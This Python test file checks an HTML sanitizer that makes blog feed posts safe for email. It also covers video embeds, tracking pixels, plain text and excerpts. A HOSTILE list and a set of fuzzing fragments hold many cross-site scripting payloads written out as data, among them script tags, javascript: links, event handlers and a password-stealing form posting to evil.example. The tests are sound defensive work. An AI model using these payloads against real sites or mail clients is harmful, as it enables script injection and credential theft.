"""Feed HTML made safe for email: hostile input, embeds, images, plain text, excerpts."""

from __future__ import annotations

from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_render_support import demo_post, demo_settings

from syndicate.render import render_post_email
from syndicate.render.sanitize import (
    ALLOWED_ATTRIBUTES,
    ALLOWED_TAGS,
    IMAGE_STYLE,
    excerpt,
    sanitize,
    to_text,
    top_level_blocks,
    video_page_url,
)

BASE = "https://wellness.example/2024/03/post/"

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="java&#09;script:alert(1)">click</a>',
    '<a href="java\nscript:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<form action="https://evil.example/steal"><input type="password" name="p"><button>Go</button></form>',
    '<input autofocus onfocus=alert(1)>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<div style="background:url(javascript:alert(1))">styled</div>',
    '<p style="position:fixed;top:0;left:0;width:100%">overlay</p>',
    '<style>@import url(https://evil.example/x.css); body{display:none}</style>',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<svg onload=alert(1)><circle r="1"/></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<a href="https://ok.example/" onclick="alert(1)" target="_blank">ok</a>',
    '<!--[if gte mso 9]><script>alert(1)</script><![endif]-->',
    '<img src="https://evil.example/pixel.gif" width="1" height="1">',
    '<img src="https://evil.example/pixel.gif" style="width:1px;height:1px">',
    '<img src="https://evil.example/pixel.gif" style="display:none">',
    '<p>unclosed <b>bold <i>italic</p> trailing',
    '<table><tr><td><p>cell</table> after',
    '<a href="https://ok.example/"><div>block in link</div></a>',
    '<img src="https://ok.example/a.png" alt="x" onload="alert(1)" srcset="javascript:alert(1) 2x">',
    '<p>5 < 6 & 7 > 3 "quoted"</p>',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '<video src="https://evil.example/v.mp4" poster="javascript:alert(1)"></video>',
    '<select><option>pick</option></select>',
]


class _Structure(HTMLParser):
    """Records every tag, attribute and URL of sanitized output."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag not in ALLOWED_TAGS:
            self.problems.append(f"tag <{tag}>")
        for name, value in attrs:
            allowed = ALLOWED_ATTRIBUTES.get(tag, set()) | ({"style"} if tag == "img" else set())
            if name not in allowed:
                self.problems.append(f"attribute {name} on <{tag}>")
            if name == "style" and value != IMAGE_STYLE:
                self.problems.append(f"style {value!r}")
            if name in {"href", "src"}:
                scheme = urlsplit(value or "").scheme
                ok = {"http", "https"} if name == "src" else {"http", "https", "mailto", "tel"}
                if scheme not in ok or not value.startswith(f"{scheme}:"):
                    self.problems.append(f"{name}={value!r}")

    handle_startendtag = handle_starttag


def assert_safe(html: str) -> None:
    checker = _Structure()
    checker.feed(html)
    checker.close()
    assert not checker.problems, f"{checker.problems} in {html!r}"


@pytest.mark.parametrize("dirty", HOSTILE)
def test_hostile_html_is_neutralised(dirty):
    clean = sanitize(dirty, BASE, fallback_alt="Post")
    assert_safe(clean)
    lowered = clean.lower()
    for marker in ("javascript", "vbscript", "data:", "evil.example", "<script", "<style", "<form", "<iframe"):
        assert marker not in lowered, (marker, clean)


@pytest.mark.parametrize("dirty", HOSTILE)
def test_hostile_html_never_reaches_the_email(dirty):
    content = render_post_email(demo_post(content_html=f"<p>Before.</p>{dirty}<p>After.</p>"),
                                demo_settings(), "newsletter")
    for part in (content.html.lower(), content.text.lower()):
        for marker in ("javascript:", "vbscript:", "onerror=", "onload=", "onclick=", "evil.example",
                       "<iframe", "<form", "<input", "<object", "<embed", "<svg", "<base ", "refresh", "<script"):
            assert marker not in part, marker
    assert "Before." in content.html  # the post itself survives


html_fragments = st.lists(st.sampled_from([
    "<p>", "</p>", "<b>", "</b>", "<a href='/x'>", "<a href='javascript:alert(1)'>", "</a>", "<img src=/i.png>",
    "<img src=x onerror=alert(1)>", "<script>", "</script>", "<style>", "</style>", "<table><tr><td>",
    "</td></tr></table>", "<ul><li>", "</li></ul>", "<iframe src='https://youtu.be/abc'>", "</iframe>",
    "<!--", "-->", "<![CDATA[", "]]>", "&amp;", "&", "<", ">", "\"", "'", "text ", "<br>", "<br/>", "<hr>",
    "<svg>", "</svg>", "<math>", "<form>", "<noscript>", "</noscript>", "<textarea>", "</div>", "<div>",
    "日本語", "😀", "e\u0301", "\u202e", "\x00",
]), max_size=40).map("".join)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(html_fragments)
def test_any_tag_soup_comes_out_safe_and_compiles(dirty):
    assert_safe(sanitize(dirty, BASE, fallback_alt="Post"))
    render_post_email(demo_post(content_html=dirty), demo_settings(), "newsletter")  # MJML accepts it


def test_wordpress_block_comments_and_empty_paragraphs_go():
    clean = sanitize("<!-- wp:paragraph --><p>Hi</p><!-- /wp:paragraph --><p>&nbsp;</p><p> <br> </p>"
                     "<div><p></p></div>", BASE)
    assert clean == "<p>Hi</p>"


def test_urls_become_absolute_against_the_post():
    clean = sanitize('<a href="../about/">a</a><a href="//cdn.example/x">b</a><img src="img/p.jpg" alt="p">',
                     BASE)
    assert 'href="https://wellness.example/2024/03/about/"' in clean
    assert 'href="https://cdn.example/x"' in clean
    assert 'src="https://wellness.example/2024/03/post/img/p.jpg"' in clean


def test_images_get_alt_text_width_limits_and_lazy_sources():
    clean = sanitize('<img src="data:image/gif;base64,R0lGOD" data-lazy-src="/big.jpg" width="2400" '
                     'height="1600"><img src="/a.jpg" alt="A lake">', BASE, fallback_alt="The post title")
    assert ('<img width="552" src="https://wellness.example/big.jpg" alt="The post title" '
            f'style="{IMAGE_STYLE}">') in clean
    assert 'alt="A lake"' in clean
    assert "height=" not in clean  # scaled by width alone, so never distorted


def test_tracking_pixels_and_emoji_images_are_removed():
    clean = sanitize('<p>Hi <img class="wp-smiley" src="https://s.w.org/images/core/emoji/1f600.svg" alt="😀">'
                     '<img src="https://t.example/open.gif" width="1" height="1"></p>', BASE)
    assert clean == "<p>Hi 😀</p>"


@pytest.mark.parametrize("src, page", [
    ("https://www.youtube.com/embed/dQw4w9WgXcQ?feature=oembed", "https://www.youtube.com/watch?v=dQw4w9WgXcQ"),
    ("//www.youtube-nocookie.com/embed/dQw4w9WgXcQ", "https://www.youtube.com/watch?v=dQw4w9WgXcQ"),
    ("https://player.vimeo.com/video/76979871?h=8272103f6e", "https://vimeo.com/76979871"),
    ("https://maps.google.com/maps?q=x", None),
])
def test_video_embeds_map_to_their_watch_page(src, page):
    assert video_page_url(src, BASE) == page


def test_iframes_become_links_before_sanitizing():
    clean = sanitize('<iframe title="Grounding" src="https://www.youtube.com/embed/abc"><p>fallback</p></iframe>'
                     '<iframe src="https://maps.example/embed"></iframe>', BASE)
    assert clean == ('<p><a href="https://www.youtube.com/watch?v=abc"><strong>▶ Watch the video: Grounding'
                     '</strong></a></p><p><a href="https://wellness.example/2024/03/post/">View the embedded '
                     'content on our website</a></p>')


def test_link_rewriter_sees_only_http_links():
    seen = []
    sanitize('<a href="/a">a</a><a href="mailto:x@y.example">m</a>', BASE,
             rewrite_link=lambda url: seen.append(url) or url)
    assert seen == ["https://wellness.example/a"]


def test_plain_text_reads_well():
    html = ('<h2>Title</h2><p>One <a href="https://a.example/x">link</a> and <a href="https://b.example/">'
            'https://b.example/</a>.</p><ul><li>first</li><li>second<ul><li>nested</li></ul></li></ul>'
            '<ol><li>step</li></ol><blockquote><p>Quoted</p></blockquote><p>Line<br>break &amp; more</p>'
            '<script>hidden()</script>')
    assert to_text(html) == (
        "Title\n\nOne link (https://a.example/x) and https://b.example/.\n\n- first\n- second\n  - nested\n\n"
        "- step\n\n> Quoted\n\nLine\nbreak & more"
    )


def test_excerpt_cuts_between_blocks():
    html = "".join(f"<p>Paragraph {i} " + "word " * 40 + "</p>" for i in range(50))
    cut, was_cut = excerpt(html, 2000)
    assert was_cut and len(cut.encode()) <= 2000
    assert cut.endswith("</p>") and cut.count("<p>") == cut.count("</p>")
    assert top_level_blocks(cut) == top_level_blocks(html)[: cut.count("<p>")]
    assert excerpt(html, 10**6) == (html, False)


def test_excerpt_of_one_giant_paragraph_cuts_at_a_word():
    cut, was_cut = excerpt("<p>" + "longword " * 5000 + "</p>", 1000)
    assert was_cut and len(cut.encode()) <= 1000
    assert cut.startswith("<p>longword") and cut.endswith("…</p>")


@pytest.mark.parametrize("src", [
    "https://stats.3960.org/p.php?idsite=8&action_name=x",
    "http://feeds.feedburner.com/~r/Techcrunch/~4/kTeeGj4FnwU",
    "http://feeds.feedburner.com/~ff/Techcrunch?d=2mJPEYqXBVI",
    "https://pixel.wp.com/b.gif?v=noscript",
    "https://ad.doubleclick.net/ddm/trackimp/N123",
    "https://medium.com/_/stat?event=post.clientViewed",
])
def test_analytics_images_of_any_size_are_dropped(src):
    html = f'<p>Text</p><img src="{src}" width="300" height="200" alt="Photo">'
    cleaned = sanitize(html, "https://blog.example/post/")
    assert "<img" not in cleaned and "Text" in cleaned
